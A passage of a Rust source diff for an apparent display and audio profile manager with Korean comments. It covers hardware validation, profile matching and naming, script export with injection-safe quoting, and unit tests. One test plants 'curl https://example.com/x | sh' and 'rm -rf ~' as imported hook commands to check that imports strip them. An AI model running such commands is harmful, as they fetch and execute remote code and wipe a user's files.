+        DisplayCheck::WillChange { from: display_state_label(current), to: display_state_label(expected) }
+    }
+}
+
+// 저장된 id 또는 이름, 패턴과 맞는 장치가 연결되어 있는지
+fn audio_device_present(device: &str, device_type: &str, devices: &[AudioDevice]) -> bool {
+    if device.starts_with(DEVICE_PATTERN_PREFIX) {
+        return resolve_audio_device(device, device_type, devices).is_ok();
+    }
+    devices
+        .iter()
+        .any(|candidate| candidate.device_type == device_type && (candidate.id == device || candidate.name == device))
+}
+
+// 프로필에 있는 부분을 적용할 백엔드가 쓰는 외부 도구
+pub fn required_profile_tools(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+) -> Vec<String> {
+    let mut tools = Vec::new();
+    if !profile.displays.is_empty() {
+        tools.extend(displays.required_tools());
+    }
+    if profile.audio_settings.is_some() {
+        tools.extend(audio.required_tools());
+    }
+    tools.dedup();
+    tools
+}
+
+// 백엔드에서 현재 구성과 모드 목록을 읽어 적용 전 확인 (아무것도 바꾸지 않음)
+pub fn validate_profile_against_system(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+) -> Result<ValidationReport, AppError> {
+    let connected = if profile.displays.is_empty() { Vec::new() } else { displays.enumerate()? };
+    let modes: HashMap<u32, Vec<DisplayMode>> = profile
+        .displays
+        .iter()
+        .filter(|display| display.enabled)
+        .filter_map(|display| Some((display, find_connected(display, &connected)?)))
+        .filter_map(|(display, current)| match displays.modes(current.id) {
+            Ok(modes) => Some((display.id, modes)),
+            Err(e) => {
+                log::debug!("{}: 모드 목록을 읽지 못해 확인하지 않습니다: {}", display.name, e);
+                None
+            }
+        })
+        .collect();
+    let devices = if profile.audio_settings.is_some() { audio.enumerate()? } else { Vec::new() };
+    let missing = missing_tools(&required_profile_tools(profile, displays, audio));
+    Ok(validation_report(profile, &connected, &modes, &devices, missing))
+}
+
+// 연결되지 않은 디스플레이와 오디오 장치가 있으면 ProfileHardwareMissing (도구의 알기 어려운 오류 대신)
+// skip_missing_audio면 찾지 못한 오디오 장치만 뺀 프로필과 경고를 돌려줍니다 (디스플레이는 건너뛰지 않음)
+pub fn require_connected_hardware(
+    profile: &Profile,
+    report: &ValidationReport,
+    skip_missing_audio: bool,
+) -> Result<(Profile, Vec<String>), AppError> {
+    // output_follows_display면 출력 장치는 디스플레이를 켠 뒤에 나타나므로 지금 빠져 있어도 막지 않습니다
+    let missing_audio: Vec<&AudioValidation> = report
+        .audio
+        .iter()
+        .filter(|device| device.status == AudioCheck::DeviceMissing)
+        .filter(|device| !(profile.output_follows_display && device.device_type == "output"))
+        .collect();
+    let mut missing: Vec<String> = report
+        .displays
+        .iter()
+        .filter(|display| display.status == DisplayCheck::MissingDisplay)
+        .map(|display| display.display_name.clone())
+        .collect();
+    if !skip_missing_audio {
+        missing.extend(missing_audio.iter().map(|device| format!("{} ({})", device.device, device.device_type)));
+    }
+    if !missing.is_empty() {
+        return Err(AppError::ProfileHardwareMissing {
+            profile_id: profile.id.clone(),
+            missing: missing.join(", "),
+            report: Box::new(report.clone()),
+        });
+    }
+
+    let mut profile = profile.clone();
+    let mut warnings = Vec::new();
+    if let Some(settings) = profile.audio_settings.as_mut() {
+        for device in missing_audio {
+            match device.device_type.as_str() {
+                "input" => settings.input_device = None,
+                _ => settings.output_device = None,
+            }
+            warnings.push(format!("{}: 연결되어 있지 않아 건너뜁니다", device.device));
+        }
+    }
+    Ok((profile, warnings))
+}
+
+// 필요한 도구가 없으면 적용을 시작하기 전에 RequiredToolsMissing (중간에 도구 오류로 멈추지 않도록)
+fn check_required_tools(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+) -> Result<(), AppError> {
+    let missing = missing_tools(&required_profile_tools(profile, displays, audio));
+    if missing.is_empty() {
+        return Ok(());
+    }
+    // 목록을 읽는 데도 같은 도구가 필요할 수 있으므로, 읽지 못하면 도구 목록만 담습니다
+    let report = validate_profile_against_system(profile, displays, audio).unwrap_or_else(|e| {
+        log::debug!("적용 전 확인 실패: {}", e);
+        ValidationReport {
+            profile_id: profile.id.clone(),
+            displays: Vec::new(),
+            audio: Vec::new(),
+            missing_tools: missing.clone(),
+        }
+    });
+    Err(AppError::RequiredToolsMissing {
+        profile_id: profile.id.clone(),
+        tools: missing.join(", "),
+        report: Box::new(report),
+    })
+}
+
+// 프로필과 주어진 구성의 차이 (비어 있으면 일치, 프로필에 없는 부분은 비교하지 않음)
+// 패턴으로 지정된 장치는 devices에서 찾고, 없으면 DeviceNotFound를 반환합니다
+pub fn profile_drift(
+    profile: &Profile,
+    displays: &[DisplayInfo],
+    devices: &[AudioDevice],
+) -> Result<Vec<String>, AppError> {
+    let mut drift = if profile.displays.is_empty() { Vec::new() } else { diff_displays(&profile.displays, displays) };
+    if let Some(audio_settings) = &profile.audio_settings {
+        let expected_audio = resolve_audio_settings(audio_settings, devices)?;
+        drift.extend(diff_audio_settings(&expected_audio, &capture_audio_settings(devices)));
+    }
+    Ok(drift)
+}
+
+// 백엔드에서 현재 구성을 읽어 프로필과 비교 (적용 후 확인, 활성 프로필 일치 확인)
+pub fn verify_profile(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+) -> Result<Vec<String>, AppError> {
+    profile_drift(profile, &displays.enumerate()?, &audio.enumerate()?)
+}
+
+// 연결된 디스플레이 구성 (자동 적용에서 연결 / 분리만 구분하고 배치 변경은 무시하기 위한 id 목록)
+pub fn display_topology(displays: &[DisplayInfo]) -> Vec<u32> {
+    let mut ids: Vec<u32> = displays.iter().map(|display| display.id).collect();
+    ids.sort_unstable();
+    ids
+}
+
+// 연결된 디스플레이와 맞는 프로필 (자동 적용에 사용)
+// 디스플레이 id가 모두 같은 프로필을 먼저 찾고, 없으면 개수와 해상도가 같은 프로필을 찾습니다
+// 조건에 맞는 프로필이 여러 개면 first_match일 때 목록에서 처음 것, 아니면 어느 것을 적용할지 알 수 없으므로 None
+pub fn match_profile_for_displays<'a>(
+    profiles: &'a [Profile],
+    displays: &[DisplayInfo],
+    first_match: bool,
+) -> Option<&'a Profile> {
+    let resolutions = |displays: &[DisplayInfo]| {
+        let mut sizes: Vec<(u32, u32)> = displays.iter().map(|display| (display.width, display.height)).collect();
+        sizes.sort_unstable();
+        sizes
+    };
+    let with_displays = || profiles.iter().filter(|profile| !profile.displays.is_empty());
+    let single = |candidates: Vec<&'a Profile>| match candidates.as_slice() {
+        [profile] => Some(Some(*profile)),
+        [] => None,
+        [first, ..] if first_match => {
+            let ids: Vec<&str> = candidates.iter().map(|profile| profile.id.as_str()).collect();
+            log::info!("디스플레이 구성과 맞는 프로필이 여러 개라 처음 것을 적용합니다: {:?}", ids);
+            Some(Some(*first))
+        }
+        _ => {
+            let ids: Vec<&str> = candidates.iter().map(|profile| profile.id.as_str()).collect();
+            log::info!("디스플레이 구성과 맞는 프로필이 여러 개라 자동 적용하지 않습니다: {:?}", ids);
+            Some(None)
+        }
+    };
+
+    let topology = display_topology(displays);
+    let same_ids = with_displays().filter(|profile| display_topology(&profile.displays) == topology).collect();
+    if let Some(matched) = single(same_ids) {
+        return matched;
+    }
+    let sizes = resolutions(displays);
+    let same_sizes = with_displays().filter(|profile| resolutions(&profile.displays) == sizes).collect();
+    single(same_sizes).flatten()
+}
+
+// 명령줄에서 받은 id 또는 이름으로 프로필 찾기 (id가 우선, 이름은 대소문자와 앞뒤 공백 무시)
+pub fn resolve_profile<'a>(profiles: &'a [Profile], query: &str) -> Result<&'a Profile, AppError> {
+    if let Some(profile) = profiles.iter().find(|profile| profile.id == query) {
+        return Ok(profile);
+    }
+    let name = query.trim().to_lowercase();
+    let named: Vec<&Profile> = profiles
+        .iter()
+        .filter(|profile| profile.name.trim().to_lowercase() == name)
+        .collect();
+    match named.as_slice() {
+        [profile] => Ok(profile),
+        [] => Err(AppError::ProfileNotFound { profile_id: query.to_string() }),
+        _ => Err(AppError::AmbiguousProfileName {
+            name: query.to_string(),
+            profile_ids: named.iter().map(|profile| profile.id.as_str()).collect::<Vec<_>>().join(", "),
+        }),
+    }
+}
+
+// 저장할 이름 확인 (앞뒤 공백을 뺀 이름 반환)
+// 비어 있거나 다른 프로필과 이름이 같으면 (대소문자 무시) 오류, profile_id 자신의 이름은 제외합니다
+pub fn validate_profile_name(name: &str, profile_id: &str, profiles: &[Profile]) -> Result<String, AppError> {
+    let name = name.trim();
+    if name.is_empty() {
+        return Err(AppError::EmptyProfileName { profile_id: profile_id.to_string() });
+    }
+    match profiles
+        .iter()
+        .find(|profile| profile.id != profile_id && profile.name.trim().to_lowercase() == name.to_lowercase())
+    {
+        Some(other) => Err(AppError::ProfileNameTaken { name: name.to_string(), profile_id: other.id.clone() }),
+        None => Ok(name.to_string()),
+    }
+}
+
+// 다른 프로필과 겹치지 않는 이름 ("이름", "이름 (2)", "이름 (3)", ...)
+pub fn suggest_profile_name(base: &str, profiles: &[Profile]) -> String {
+    let base = base.trim();
+    let taken = |name: &str| {
+        profiles
+            .iter()
+            .any(|profile| profile.name.trim().to_lowercase() == name.to_lowercase())
+    };
+    if !taken(base) {
+        return base.to_string();
+    }
+    (2..)
+        .map(|n| format!("{} ({})", base, n))
+        .find(|name| !taken(name))
+        .unwrap_or_default()
+}
+
+// 첫 실행 시 만드는 시작 프로필 id (다시 실행해도 중복 생성하지 않도록 고정)
+pub const STARTER_PROFILE_ID: &str = "starter";
+
+// 스크립트 내보내기 형식
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum ScriptKind {
+    // macOS: displayplacer + SwitchAudioSource
+    Shell,
+    // Windows: AudioDeviceCmdlets
+    PowerShell,
+}
+
+// 스크립트에 넣는 값의 제어 문자(줄바꿈 등)는 공백으로 바꿉니다 (주석 줄을 끝내고 명령을 끼워 넣지 못하도록)
+fn script_text(value: &str) -> String {
+    value.chars().map(|c| if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') { ' ' } else { c }).collect()
+}
+
+// POSIX 셸 작은따옴표 인용
+fn shell_quote(value: &str) -> String {
+    format!("'{}'", script_text(value).replace('\'', "'\\''"))
+}
+
+// PowerShell 작은따옴표 인용 (PowerShell은 ‘ ’ ‚ ‛도 작은따옴표로 봅니다)
+fn powershell_quote(value: &str) -> String {
+    let mut quoted = String::from("'");
+    for c in script_text(value).chars() {
+        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
+            quoted.push(c);
+        }
+        quoted.push(c);
+    }
+    quoted.push('\'');
+    quoted
+}
+
+// 프로필을 외부 도구 호출 스크립트로 변환 (도구 설치 여부와 무관한 텍스트 생성)
+pub fn profile_to_script(profile: &Profile, kind: ScriptKind, generated_at: &str) -> String {
+    let mut lines = Vec::new();
+
+    match kind {
+        ScriptKind::Shell => {
+            lines.push("#!/bin/sh".to_string());
+            lines.push(format!(
+                "# Display Sound Manager 프로필: {} ({})",
+                script_text(&profile.name),
+                script_text(&profile.id)
+            ));
+            lines.push(format!("# 생성일: {}", script_text(generated_at)));
+            lines.push("# 필요: brew install displayplacer switchaudio-osx".to_string());
+            lines.push("set -e".to_string());
+            lines.push(String::new());
+
+            if !profile.displays.is_empty() {
+                lines.push("# 디스플레이 배치".to_string());
+                let args: Vec<String> = displayplacer_args(&profile.displays)
+                    .iter()
+                    .map(|arg| shell_quote(arg))
+                    .collect();
+                lines.push(format!("displayplacer {}", args.join(" ")));
+                lines.push(String::new());
+            }
+
+            let devices = [
+                ("output", profile.audio_settings.as_ref().and_then(|audio| audio.output_device.as_ref())),
+                ("input", profile.audio_settings.as_ref().and_then(|audio| audio.input_device.as_ref())),
+            ];
+            for (device_type, device) in devices {
+                let Some(device) = device else {
+                    continue;
+                };
+                lines.push(format!("# 오디오 {} 장치", device_type));
+                match device.strip_prefix(DEVICE_PATTERN_PREFIX) {
+                    Some(pattern) => lines.push(format!(
+                        "SwitchAudioSource -t {} -s \"$(SwitchAudioSource -a -t {} | grep -E {} | head -n 1)\"",
+                        device_type,
+                        device_type,
+                        shell_quote(pattern)
+                    )),
+                    None => lines.push(format!(
+                        "SwitchAudioSource -t {} -s {}",
+                        device_type,
+                        shell_quote(device)
+                    )),
+                }
+            }
+        }
+        ScriptKind::PowerShell => {
+            lines.push(format!(
+                "# Display Sound Manager 프로필: {} ({})",
+                script_text(&profile.name),
+                script_text(&profile.id)
+            ));
+            lines.push(format!("# 생성일: {}", script_text(generated_at)));
+            lines.push("# 필요: Install-Module -Name AudioDeviceCmdlets -Scope CurrentUser".to_string());
+            lines.push("$ErrorActionPreference = 'Stop'".to_string());
+            lines.push("Import-Module AudioDeviceCmdlets".to_string());
+            lines.push(String::new());
+
+            if !profile.displays.is_empty() {
+                // Windows에는 디스플레이 배치를 바꾸는 기본 PowerShell 명령이 없습니다
+                lines.push("# 디스플레이 배치 (Windows 설정 > 디스플레이에서 직접 지정하세요)".to_string());
+                for display in &profile.displays {
+                    lines.push(format!(
+                        "#   {}: {}x{} ({}, {}) {}°{}",
+                        script_text(&display.name),
+                        display.width,
+                        display.height,
+                        display.x,
+                        display.y,
+                        display.rotation,
+                        if display.is_primary { " [주 디스플레이]" } else { "" }
+                    ));
+                }
+                lines.push(String::new());
+            }
+
+            let devices = [
+                ("Playback", profile.audio_settings.as_ref().and_then(|audio| audio.output_device.as_ref())),
+                ("Recording", profile.audio_settings.as_ref().and_then(|audio| audio.input_device.as_ref())),
+            ];
+            for (device_type, device) in devices {
+                let Some(device) = device else {
+                    continue;
+                };
+                let filter = match device.strip_prefix(DEVICE_PATTERN_PREFIX) {
+                    Some(pattern) => format!("$_.Name -match {}", powershell_quote(pattern)),
+                    None => format!("$_.Name -eq {}", powershell_quote(device)),
+                };
+                lines.push(format!("# 오디오 {} 장치", device_type));
+                lines.push(format!(
+                    "Get-AudioDevice -List | Where-Object {{ $_.Type -eq '{}' -and {} }} | Select-Object -First 1 | Set-AudioDevice",
+                    device_type, filter
+                ));
+            }
+        }
+    }
+
+    lines.push(String::new());
+    lines.join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::display::layout::DEFAULT_DESKTOP_LIMIT;
+
+    fn display(id: u32, x: i32, y: i32) -> DisplayInfo {
+        DisplayInfo {
+            id,
+            name: format!("Display {}", id),
+            width: 1920,
+            height: 1080,
+            logical_width: 1920,
+            logical_height: 1080,
+            refresh_rate: 0,
+            x,
+            y,
+            scale_factor: 1.0,
+            is_primary: id == 1,
+            rotation: 0,
+            mirror_of: None,
+            persistent_id: String::new(),
+            stable_id: None,
+            enabled: true,
+            brightness: None,
+        }
+    }
+
+    fn device(name: &str, device_type: &str, is_default: bool) -> AudioDevice {
+        AudioDevice {
+            id: name.to_string(),
+            name: name.to_string(),
+            is_default,
+            device_type: device_type.to_string(),
+            ..Default::default()
+        }
+    }
+
+    fn profile(name: &str, output_device: Option<&str>) -> Profile {
+        Profile {
+            id: name.to_lowercase(),
+            name: name.to_string(),
+            displays: vec![display(1, 0, 0), display(2, 1920, 0)],
+            audio_settings: Some(AudioSettings {
+                output_device: output_device.map(str::to_string),
+                input_device: None,
+                output_volume: 50,
+                input_volume: 50,
+                output_roles: None,
+                output_muted: None,
+                input_muted: None,
+                device_profiles: None,
+            }),
+            created_at: "2024-01-01T00:00:00+09:00".to_string(),
+            tags: Vec::new(),
+            color: None,
+            hotkey: None,
+            pre_apply_command: None,
+            post_apply_command: None,
+            auto_apply_on_device: None,
+            output_follows_display: false,
+        }
+    }
+
+    #[test]
+    fn validate_profile_rejects_unknown_role_and_bad_pattern() {
+        assert!(validate_profile(&profile("Desk", Some("re:^MacBook")), DEFAULT_DESKTOP_LIMIT).is_ok());
+
+        let bad_pattern = profile("Desk", Some("re:(unclosed"));
+        assert!(matches!(
+            validate_profile(&bad_pattern, DEFAULT_DESKTOP_LIMIT),
+            Err(AppError::InvalidDevicePattern { .. })
+        ));
+
+        let mut bad_role = profile("Desk", None);
+        bad_role.audio_settings.as_mut().unwrap().output_roles =
+            Some(HashMap::from([("speakers".to_string(), "device".to_string())]));
+        assert!(validate_profile(&bad_role, DEFAULT_DESKTOP_LIMIT).is_err());
+
+        // 디스플레이와 오디오 중 하나는 있어야 합니다
+        let mut empty = profile("Desk", None);
+        empty.displays.clear();
+        assert!(validate_profile(&empty, DEFAULT_DESKTOP_LIMIT).is_ok());
+        empty.audio_settings = None;
+        assert!(matches!(validate_profile(&empty, DEFAULT_DESKTOP_LIMIT), Err(AppError::EmptyProfile { .. })));
+
+        // 모든 디스플레이를 끄는 프로필은 저장할 수 없습니다
+        let mut dark = profile("Desk", None);
+        dark.displays.iter_mut().for_each(|display| display.enabled = false);
+        assert!(matches!(
+            validate_profile(&dark, DEFAULT_DESKTOP_LIMIT),
+            Err(AppError::AllDisplaysDisabled { .. })
+        ));
+        dark.displays[0].enabled = true;
+        assert!(validate_profile(&dark, DEFAULT_DESKTOP_LIMIT).is_ok());
+
+        let mut lost = profile("Desk", None);
+        lost.displays[1].x = -2_000_000;
+        assert!(matches!(
+            validate_profile(&lost, DEFAULT_DESKTOP_LIMIT),
+            Err(AppError::DisplayOutOfBounds { .. })
+        ));
+
+        let mut bright = profile("Desk", None);
+        bright.displays[0].brightness = Some(100);
+        assert!(validate_profile(&bright, DEFAULT_DESKTOP_LIMIT).is_ok());
+        bright.displays[1].brightness = Some(140);
+        assert!(matches!(
+            validate_profile(&bright, DEFAULT_DESKTOP_LIMIT),
+            Err(AppError::InvalidBrightness { .. })
+        ));
+    }
+
+    #[test]
+    fn profile_drift_empty_when_current_matches() {
+        let devices = [device("USB Headset", "output", true), device("Speakers", "output", false)];
+        let desk = profile("Desk", Some("re:^USB"));
+        let drift = profile_drift(&desk, &[display(1, 0, 0), display(2, 1920, 0)], &devices).unwrap();
+        assert!(drift.is_empty(), "{:?}", drift);
+    }
+
+    #[test]
+    fn profile_drift_reports_moved_display_and_other_output() {
+        let devices = [device("USB Headset", "output", false), device("Speakers", "output", true)];
+        let desk = profile("Desk", Some("USB Headset"));
+        let drift = profile_drift(&desk, &[display(1, 0, 0), display(2, 0, 1080)], &devices).unwrap();
+        assert_eq!(drift.len(), 2);
+        assert!(drift[0].starts_with("Display 2: 위치"));
+        assert!(drift[1].contains("USB Headset → Speakers"));
+    }
+
+    #[test]
+    fn profile_drift_fails_when_pattern_has_no_device() {
+        let desk = profile("Desk", Some("re:^USB"));
+        let result = profile_drift(&desk, &desk.displays, &[device("Speakers", "output", true)]);
+        assert!(matches!(result, Err(AppError::DeviceNotFound { .. })));
+    }
+
+    #[test]
+    fn validation_report_lists_what_would_change() {
+        let mode =
+            |width, height| DisplayMode { width, height, refresh_rate: 60, scale_factor: 1.0, is_current: false };
+        let mut desk = profile("Desk", Some("re:^USB"));
+        desk.audio_settings.as_mut().unwrap().input_device = Some("Studio Mic".to_string());
+        let mut off = display(5, 0, 0);
+        off.enabled = false;
+        desk.displays.extend([display(3, 3840, 0), display(4, 5760, 0), off]);
+        let connected = [display(1, 0, 0), display(2, 0, 1080), display(4, 0, 0)];
+        let modes = HashMap::from([(1, vec![mode(1920, 1080)]), (4, vec![mode(1280, 720)])]);
+        let devices = [device("USB Headset", "output", false)];
+
+        let report = validation_report(&desk, &connected, &modes, &devices, vec!["displayplacer".to_string()]);
+        let statuses: Vec<&DisplayCheck> = report.displays.iter().map(|display| &display.status).collect();
+        assert_eq!(
+            statuses,
+            [
+                &DisplayCheck::Unchanged,
+                &DisplayCheck::WillChange {
+                    from: "1920x1080 (0,1080)".to_string(),
+                    to: "1920x1080 (1920,0)".to_string(),
+                },
+                &DisplayCheck::MissingDisplay,
+                &DisplayCheck::UnsupportedMode { mode: "1920x1080".to_string() },
+                // 꺼 둘 디스플레이는 목록에 없어도 이미 꺼진 것
+                &DisplayCheck::Unchanged,
+            ]
+        );
+        let audio: Vec<(&str, AudioCheck)> =
+            report.audio.iter().map(|device| (device.device_type.as_str(), device.status)).collect();
+        assert_eq!(audio, [("output", AudioCheck::Ok), ("input", AudioCheck::DeviceMissing)]);
+        assert_eq!(report.missing_tools, ["displayplacer"]);
+
+        let value = serde_json::to_value(&report.displays[1]).unwrap();
+        assert_eq!(value["status"], "will_change");
+        assert_eq!(value["display_name"], "Display 2");
+    }
+
+    #[test]
+    fn missing_hardware_is_reported_or_audio_skipped() {
+        let mut desk = profile("Desk", Some("USB Headset"));
+        desk.audio_settings.as_mut().unwrap().input_device = Some("Speakers Mic".to_string());
+        let devices = [device("Speakers", "output", true), device("Speakers Mic", "input", true)];
+        let report = validation_report(&desk, &[display(1, 0, 0)], &HashMap::new(), &devices, Vec::new());
+
+        let error = require_connected_hardware(&desk, &report, false).unwrap_err();
+        let AppError::ProfileHardwareMissing { missing, .. } = &error else {
+            panic!("expected ProfileHardwareMissing: {:?}", error);
+        };
+        assert_eq!(missing, "Display 2, USB Headset (output)");
+        assert_eq!(serde_json::to_value(&error).unwrap()["report"]["displays"][1]["status"], "missing_display");
+
+        // 오디오 장치를 건너뛰어도 연결되지 않은 디스플레이는 건너뛰지 않습니다
+        assert!(require_connected_hardware(&desk, &report, true).is_err());
+        desk.displays.truncate(1);
+        let report = validation_report(&desk, &[display(1, 0, 0)], &HashMap::new(), &devices, Vec::new());
+        let (skipped, warnings) = require_connected_hardware(&desk, &report, true).unwrap();
+        let audio = skipped.audio_settings.unwrap();
+        assert_eq!((audio.output_device, audio.input_device.as_deref()), (None, Some("Speakers Mic")));
+        assert_eq!(warnings, ["USB Headset: 연결되어 있지 않아 건너뜁니다"]);
+
+        // 디스플레이를 켠 뒤에 나타날 출력 장치는 빠져 있어도 그대로 적용합니다
+        desk.output_follows_display = true;
+        let (kept, warnings) = require_connected_hardware(&desk, &report, false).unwrap();
+        assert_eq!(kept.audio_settings.unwrap().output_device.as_deref(), Some("USB Headset"));
+        assert!(warnings.is_empty());
+    }
+
+    #[test]
+    fn split_connected_displays_drops_missing_mirror_source() {
+        let mut mirror = display(3, 0, 0);
+        mirror.mirror_of = Some(2);
+        let saved = [display(1, 0, 0), display(2, 1920, 0), mirror];
+        let (present, missing) = split_connected_displays(&saved, &[display(1, 0, 0), display(3, 0, 0)]);
+        assert_eq!(present.iter().map(|d| d.id).collect::<Vec<_>>(), [1, 3]);
+        assert_eq!(present[1].mirror_of, None);
+        assert_eq!(missing.iter().map(|d| d.id).collect::<Vec<_>>(), [2]);
+    }
+
+    #[test]
+    fn finds_connected_displays_by_stable_id_before_id() {
+        let with_edid = |id: u32, x: i32, stable_id: Option<&str>| DisplayInfo {
+            stable_id: stable_id.map(str::to_string),
+            ..display(id, x, 0)
+        };
+        let mut mirror = with_edid(2, 0, Some("DEL-B"));
+        mirror.mirror_of = Some(1);
+        let saved = [with_edid(1, 0, Some("DEL-A")), mirror, with_edid(3, 3840, Some("DEL-C"))];
+        // id가 서로 바뀐 두 모니터와, 같은 id지만 EDID가 다른 모니터
+        let connected = [with_edid(1, 0, Some("DEL-B")), with_edid(2, 0, Some("DEL-A")), with_edid(3, 0, Some("AOC"))];
+
+        let (present, missing) = split_connected_displays(&saved, &connected);
+        let ids: Vec<(u32, Option<u32>)> = present.iter().map(|d| (d.id, d.mirror_of)).collect();
+        assert_eq!(ids, [(2, None), (1, Some(2))]);
+        assert_eq!(missing.iter().map(|d| d.id).collect::<Vec<_>>(), [3]);
+        assert_eq!(display_check(&saved[2], &connected, None), DisplayCheck::MissingDisplay);
+
+        // EDID를 읽지 못한 쪽이 있으면 id로 찾습니다
+        assert_eq!(find_connected(&saved[2], &[with_edid(3, 0, None)]).map(|d| d.id), Some(3));
+        assert_eq!(find_connected(&display(3, 0, 0), &connected).map(|d| d.id), Some(3));
+    }
+
+    #[test]
+    fn matches_profiles_by_display_ids_then_resolutions() {
+        let mut docked = profile("Docked", None);
+        docked.displays = vec![display(1, 0, 0), display(5, 1920, 0)];
+        let mut laptop = profile("Laptop", None);
+        laptop.displays = vec![display(1, 0, 0)];
+        let profiles = [docked, laptop];
+
+        let matched =
+            |displays: &[DisplayInfo]| match_profile_for_displays(&profiles, displays, false).map(|p| p.id.as_str());
+        assert_eq!(matched(&[display(5, 0, 0), display(1, 1920, 0)]), Some("docked"));
+        assert_eq!(matched(&[display(1, 0, 0)]), Some("laptop"));
+        // 다른 모니터라도 개수와 해상도가 같으면 찾습니다
+        assert_eq!(matched(&[display(1, 0, 0), display(9, 1920, 0)]), Some("docked"));
+        assert_eq!(matched(&[display(1, 0, 0), display(2, 0, 0), display(3, 0, 0)]), None);
+
+        // 같은 구성의 프로필이 둘이면 고르지 않습니다
+        let mut gaming = profiles[0].clone();
+        gaming.id = "gaming".to_string();
+        let profiles = [profiles[0].clone(), gaming];
+        assert!(match_profile_for_displays(&profiles, &[display(1, 0, 0), display(5, 0, 0)], false).is_none());
+        // first_match면 목록에서 처음 것을 고릅니다
+        let first = match_profile_for_displays(&profiles, &[display(1, 0, 0), display(5, 0, 0)], true);
+        assert_eq!(first.map(|p| p.id.as_str()), Some("docked"));
+    }
+
+    #[test]
+    fn imports_exported_profiles_without_overwriting_by_default() {
+        let path = std::env::temp_dir().join(format!("dsm-profile-export-{}.json", std::process::id()));
+        write_profile_export(&path, &[profile("Desk", None), profile("Studio", None)]).unwrap();
+        let imported = read_profile_export(&path).unwrap();
+
+        let mut profiles = vec![profile("Desk", Some("Speakers"))];
+        let names = merge_imported_profiles(&mut profiles, imported.clone(), false);
+        assert_eq!(names, vec!["Desk (imported)", "Studio"]);
+        assert_eq!(profiles.len(), 3);
+        assert_ne!(profiles[1].id, "desk");
+        assert_eq!(profiles[0].audio_settings.as_ref().unwrap().output_device.as_deref(), Some("Speakers"));
+
+        let mut profiles = vec![profile("Desk", Some("Speakers"))];
+        assert_eq!(merge_imported_profiles(&mut profiles, imported, true), vec!["Desk", "Studio"]);
+        assert_eq!(profiles[0].audio_settings.as_ref().unwrap().output_device, None);
+
+        // 전체 바꾸기는 기존 프로필을 남기지 않습니다
+        let mut profiles = vec![profile("Desk", Some("Speakers")), profile("Travel", None)];
+        let imported = read_profile_export(&path).unwrap();
+        assert_eq!(replace_with_imported_profiles(&mut profiles, imported), vec!["Desk", "Studio"]);
+        assert_eq!(profiles.len(), 2);
+
+        // 지원하지 않는 버전과 JSON이 아닌 파일
+        fs::write(&path, r#"{"format_version": 99, "profiles": []}"#).unwrap();
+        assert!(matches!(read_profile_export(&path), Err(AppError::UnsupportedExportVersion { version, .. }) if version == "99"));
+        fs::write(&path, "not json").unwrap();
+        assert!(matches!(read_profile_export(&path), Err(AppError::CorruptFile { .. })));
+        let _ = fs::remove_file(&path);
+    }
+
+    #[test]
+    fn imported_profiles_drop_apply_hooks() {
+        let path = std::env::temp_dir().join(format!("dsm-profile-hooks-{}.json", std::process::id()));
+        let mut desk = profile("Desk", None);
+        desk.pre_apply_command = Some("curl https://example.com/x | sh".to_string());
+        let mut studio = profile("Studio", None);
+        studio.post_apply_command = Some("rm -rf ~".to_string());
+        write_profile_export(&path, &[desk, studio]).unwrap();
+        let imported = read_profile_export(&path).unwrap();
+        let _ = fs::remove_file(&path);
+
+        let hooks = |profiles: &[Profile]| -> Vec<(Option<String>, Option<String>)> {
+            profiles.iter().map(|p| (p.pre_apply_command.clone(), p.post_apply_command.clone())).collect()
+        };
+        let mut profiles = Vec::new();
+        merge_imported_profiles(&mut profiles, imported.clone(), false);
+        assert_eq!(hooks(&profiles), vec![(None, None), (None, None)]);
+
+        // 덮어써도 기존 프로필에 직접 지정한 명령은 남깁니다
+        let mut existing = profile("Desk", None);
+        existing.pre_apply_command = Some("echo local".to_string());
+        let mut profiles = vec![existing];
+        merge_imported_profiles(&mut profiles, imported.clone(), true);
+        assert_eq!(hooks(&profiles), vec![(Some("echo local".to_string()), None), (None, None)]);
+
+        let mut profiles = Vec::new();
+        replace_with_imported_profiles(&mut profiles, imported);
+        assert_eq!(hooks(&profiles), vec![(None, None), (None, None)]);
+    }
+
+    #[test]
+    fn recovers_truncated_profiles_file_from_backup() {
+        let dir = std::env::temp_dir().join(format!("dsm-profiles-recovery-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        let path = dir.join("profiles.json");
+
+        // 버전 없는 이전 형식도 읽고, 읽으면서 현재 형식으로 다시 저장합니다 (이전 파일은 백업)
+        // 이전 형식에 없던 필드는 기본값으로 채웁니다
+        fs::create_dir_all(&dir).unwrap();
+        let legacy = r#"[{"id": "desk", "name": "Desk", "displays": [{
+            "id": 1, "name": "Built-in", "width": 1920, "height": 1080, "x": 0, "y": 0,
+            "scale_factor": 1.0, "is_primary": true
+        }], "audio_settings": {"output_device": "Speakers", "output_volume": 40}}]"#;
+        fs::write(&path, legacy).unwrap();
+        let profiles = read_profiles_file(&path).unwrap();
+        assert_eq!(profiles[0].name, "Desk");
+        assert!(profiles[0].displays[0].enabled && profiles[0].displays[0].mirror_of.is_none());
+        assert_eq!(profiles[0].audio_settings.as_ref().unwrap().input_device, None);
+        let migrated: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(migrated["schema_version"], PROFILES_SCHEMA_VERSION);
+        assert_eq!(fs::read_to_string(profiles_backup_file(&path)).unwrap(), legacy);
+        write_profiles_file(&path, &[profile("Desk", None), profile("Studio", None)]).unwrap();
+        let saved: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(saved["schema_version"], PROFILES_SCHEMA_VERSION);
+        assert!(profiles_backup_file(&path).exists());
+
+        // 쓰다가 잘린 파일은 백업(마지막으로 정상이던 파일)으로 되돌리고 손상된 파일을 남깁니다
+        let content = fs::read_to_string(&path).unwrap();
+        fs::write(&path, &content[..content.len() / 2]).unwrap();
